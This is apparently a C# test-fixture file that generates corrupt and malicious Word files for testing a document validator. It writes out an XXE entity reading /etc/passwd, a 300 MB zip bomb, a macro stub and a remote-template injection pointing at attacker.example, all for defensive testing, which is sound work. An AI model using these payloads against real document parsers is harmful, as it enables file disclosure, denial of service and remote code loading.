using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;

namespace Handbook.Validator.Fixtures;

/// <summary>Broken and malicious files a validator must refuse safely, each made from a valid record where it can be.</summary>
public static class HostileFiles
{
    public static byte[] Empty() => [];

    public static byte[] NotAZip() => Encoding.UTF8.GetBytes("这是一份会议记录的纯文本，不是 Word 文档。\n");

    /// <summary>Cut in half, as a failed upload leaves it: the zip directory at the end is gone.</summary>
    public static byte[] Truncated(byte[] record) => record[..(record.Length / 2)];

    /// <summary>An OLE compound file with a WordDocument stream: what Word 97-2003 writes.</summary>
    public static byte[] LegacyDoc() => CompoundFile("WordDocument");

    /// <summary>An OLE compound file holding EncryptionInfo and EncryptedPackage: a password-protected .docx.</summary>
    public static byte[] Encrypted() => CompoundFile("EncryptionInfo", "EncryptedPackage");

    /// <summary>A tiny file that expands to hundreds of megabytes.</summary>
    public static byte[] ZipBomb(byte[] record) => Edit(record, zip =>
    {
        var entry = zip.CreateEntry("word/media/bomb.bin", CompressionLevel.SmallestSize);
        using var stream = entry.Open();
        var zeros = new byte[1024 * 1024];
        for (var i = 0; i < 300; i++) stream.Write(zeros);
    });

    /// <summary>The main document with a DTD declaring an external entity (XXE).</summary>
    public static byte[] ExternalEntity(byte[] record) => Edit(record, zip =>
    {
        var xml = Read(zip, "word/document.xml");
        var start = xml.IndexOf("<w:document", StringComparison.Ordinal);
        xml = xml[..start] + "<!DOCTYPE w:document [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>" + xml[start..].Replace("</w:body>", "<w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body>", StringComparison.Ordinal);
        Replace(zip, "word/document.xml", xml);
    });

    /// <summary>A main document of about 18 MB of text that does not compress much: over the part cap, not a bomb.</summary>
    public static byte[] OversizedPart(byte[] record) => Edit(record, zip =>
    {
        var xml = Read(zip, "word/document.xml");
        var random = new Random(7);
        var filler = new StringBuilder();
        while (filler.Length < 6_000_000) filler.Append((char)random.Next(0x4E00, 0x9FA5));
        Replace(zip, "word/document.xml", xml.Replace("</w:body>", $"<w:p><w:r><w:t>{filler}</w:t></w:r></w:p></w:body>", StringComparison.Ordinal));
    }, CompressionLevel.Fastest);

    /// <summary>Saved as .docm: macro-enabled main part and a VBA project.</summary>
    public static byte[] WithMacros(byte[] record) => Edit(record, zip =>
    {
        var types = Read(zip, "[Content_Types].xml").Replace(
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            "application/vnd.ms-word.document.macroEnabled.main+xml", StringComparison.Ordinal);
        Replace(zip, "[Content_Types].xml", types.Replace("</Types>", "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>", StringComparison.Ordinal));
        using var stream = zip.CreateEntry("word/vbaProject.bin").Open();
        stream.Write(Encoding.ASCII.GetBytes("Attribute VB_Name = \"ThisDocument\"\nSub AutoOpen()\nEnd Sub\n"));
    });

    /// <summary>A remote attached template (template injection): settings relationships pointing outside.</summary>
    public static byte[] RemoteTemplate(byte[] record) => AttachedTemplate(record, "http://attacker.example/template.dotm");

    /// <summary>The record with an attached template at <paramref name="target"/> (WPS and Word write their own template's path).</summary>
    public static byte[] AttachedTemplate(byte[] record, string target) => Edit(record, zip =>
        Replace(zip, "word/_rels/settings.xml.rels",
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
            + ExternalRelationship("rId1", "attachedTemplate", target) + "</Relationships>"));

    /// <summary>
    /// The record with <paramref name="count"/> external relationships of <paramref name="type"/> (`image`: pictures
    /// linked, not embedded; `hyperlink`) from the document, to <paramref name="target"/> followed by 1, 2, ….
    /// </summary>
    public static byte[] Linked(byte[] record, string type, int count, string target) => Edit(record, zip =>
    {
        var links = string.Concat(Enumerable.Range(1, count).Select(n => ExternalRelationship($"rLinked{type}{n}", type, $"{target}{n}")));
        Replace(zip, "word/_rels/document.xml.rels", Read(zip, "word/_rels/document.xml.rels").Replace("</Relationships>", links + "</Relationships>", StringComparison.Ordinal));
    });

    private static string ExternalRelationship(string id, string type, string target) =>
        $"<Relationship Id=\"{id}\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{type}\" "
        + $"Target=\"{System.Security.SecurityElement.Escape(target)}\" TargetMode=\"External\"/>";

    /// <summary>
    /// The zip's central directory offset (in the end-of-central-directory record) moved by <paramref name="by"/>
    /// bytes: the zip opens, and fails only when its entries are read.
    /// </summary>
    public static byte[] ShiftedCentralDirectory(byte[] record, int by)
    {
        var data = record.ToArray();
        var end = data.AsSpan().LastIndexOf("PK\u0005\u0006"u8);
        var offset = BinaryPrimitives.ReadUInt32LittleEndian(data.AsSpan(end + 16));
        BinaryPrimitives.WriteUInt32LittleEndian(data.AsSpan(end + 16), (uint)(offset + by));
        return data;
    }

    /// <summary>A .zip of records that is not a zip: what a failed upload of a quarter's batch leaves.</summary>
    public static byte[] CorruptArchive(byte[] record) => Truncated(Archive(("一季度/记录.docx", record)));

    public static byte[] Archive(params (string Name, byte[] Data)[] files)
    {
        using var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
            foreach (var (name, data) in files)
            {
                using var entry = zip.CreateEntry(name).Open();
                entry.Write(data);
            }
        return stream.ToArray();
    }

    /// <summary>A zip of other things: no officeDocument relationship, no document part.</summary>
    public static byte[] NoMainDocument() => Edit(null, zip =>
    {
        Replace(zip, "[Content_Types].xml", "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"txt\" ContentType=\"text/plain\"/></Types>");
        Replace(zip, "_rels/.rels", "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"/>");
        Replace(zip, "readme.txt", "照片和说明");
    });

    private static byte[] CompoundFile(params string[] streams)
    {
        var data = new byte[4096];
        byte[] signature = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
        signature.CopyTo(data, 0);
        var at = 1024;
        foreach (var name in streams)
        {
            var bytes = Encoding.Unicode.GetBytes(name);
            bytes.CopyTo(data, at);
            at += 128;
        }
        return data;
    }

    private static byte[] Edit(byte[]? record, Action<ZipArchive> edit, CompressionLevel level = CompressionLevel.Optimal)
    {
        using var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
        {
            if (record is not null)
            {
                using var source = new ZipArchive(new MemoryStream(record), ZipArchiveMode.Read);
                foreach (var entry in source.Entries)
                {
                    using var from = entry.Open();
                    using var to = zip.CreateEntry(entry.FullName, level).Open();
                    from.CopyTo(to);
                }
            }
        }
        // Second pass so that edits can read and replace what the copy wrote.
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Update, leaveOpen: true)) edit(zip);
        return stream.ToArray();
    }

    private static string Read(ZipArchive zip, string name)
    {
        using var reader = new StreamReader(zip.GetEntry(name)!.Open());
        return reader.ReadToEnd();
    }

    private static void Replace(ZipArchive zip, string name, string text)
    {
        zip.GetEntry(name)?.Delete();
        using var stream = zip.CreateEntry(name, CompressionLevel.Fastest).Open();
        stream.Write(Encoding.UTF8.GetBytes(text));
    }
}
